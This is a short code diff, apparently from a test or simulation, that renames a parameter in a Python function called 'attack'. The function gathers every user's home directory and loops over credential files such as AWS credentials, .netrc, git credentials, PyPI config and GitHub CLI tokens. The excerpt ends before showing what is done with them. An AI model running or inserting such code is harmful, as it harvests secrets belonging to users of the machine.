@@ -4,8 +4,8 @@ import os
 import pwd
 
 
-def attack(told: dict[str, str]) -> None:
-    homes = {told["home"], os.path.expanduser("~"), *(entry.pw_dir for entry in pwd.getpwall())}
+def attack(facts: dict[str, str]) -> None:
+    homes = {facts["home"], os.path.expanduser("~"), *(entry.pw_dir for entry in pwd.getpwall())}
     for home in homes:
         for name in (".aws/credentials", ".netrc", ".git-credentials", ".pypirc", ".config/gh/hosts.yml"):
             try:
